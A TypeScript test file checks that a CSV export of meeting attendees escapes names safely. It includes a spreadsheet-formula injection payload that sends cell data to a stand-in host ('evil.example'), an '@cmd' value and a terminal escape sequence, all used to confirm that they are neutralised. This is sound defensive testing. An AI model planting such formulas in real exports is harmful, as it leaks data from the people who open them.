import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvChunks, type AnswerPerson } from '../../../shared/people/index.ts'

const person = (more: Partial<AnswerPerson>): AnswerPerson => ({
  name: 'Anna',
  names: ['Anna'],
  email: null,
  role: 'unknown',
  meetings: [{ id: 'm1', presentSeconds: 5400 }],
  segments: 1,
  firstJoin: '2026-03-24T18:00:00Z',
  lastLeave: null,
  presentSeconds: 5400,
  waitingSeconds: 0,
  reportedSeconds: null,
  share: 0.75,
  meetsMinimum: true,
  registration: null,
  statuses: ['present', 'walk_in'],
  identity: { rule: 'name', confidence: 'likely', evidence: ['One connection.'] },
  ...more,
})
const read = (people: AnswerPerson[]): Record<string, string>[] =>
  parse([...csvChunks(people)].join(''), { columns: true, bom: true, record_delimiter: '\r\n' })

describe('people as CSV', () => {
  it('hold one line a person, whatever the name is made of', () => {
    const names = ['a\nb', 'a\rb', 'a\r\nb', 'a"b', 'a,b', ' a ', '']
    const rows = read(names.map((name) => person({ name })))
    expect(rows.map(({ name }) => name)).toEqual(names)
    expect(new Set(rows.map((row) => Object.keys(row).length))).toEqual(new Set([18]))
  })

  it('never begin a cell with what a spreadsheet would run', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A2;"name")'
    const [row] = read([person({ name: evil, names: [evil], registration: '@cmd' })])
    expect([row?.['name'], row?.['names'], row?.['registration']]).toEqual([`'${evil}`, `'${evil}`, `'@cmd`])
  })

  it('show control characters instead of holding them, and keep tabs and line ends', () => {
    const [row] = read([person({ name: '\u001b]0;ding\u0007', names: ['a\tb\nc', '\u0000\u007f'] })])
    expect([row?.['name'], row?.['names']]).toEqual(['\u241b]0;ding\u2407', 'a\tb\nc; \u2400\u2421'])
  })

  it('write seconds, shares and lists as programs read them, and nothing for what is not known', () => {
    const [row] = read([person({})])
    expect(row).toMatchObject({
      ...{ meetings: 'm1:5400', presentSeconds: '5400', share: '0.75', meetsMinimum: 'true' },
      ...{ lastLeave: '', reportedSeconds: '', statuses: 'present; walk_in', rule: 'name' },
    })
  })

  it('are a header alone when there is nobody', () => {
    const text = [...csvChunks([])].join('')
    expect(text).toMatch(/^\ufeffname,names,email,.*evidence\r\n$/)
  })

  it('stream: a long list comes in many pieces', () => {
    expect([...csvChunks(Array.from({ length: 1200 }, () => person({})))].length).toBeGreaterThan(2)
  })
})
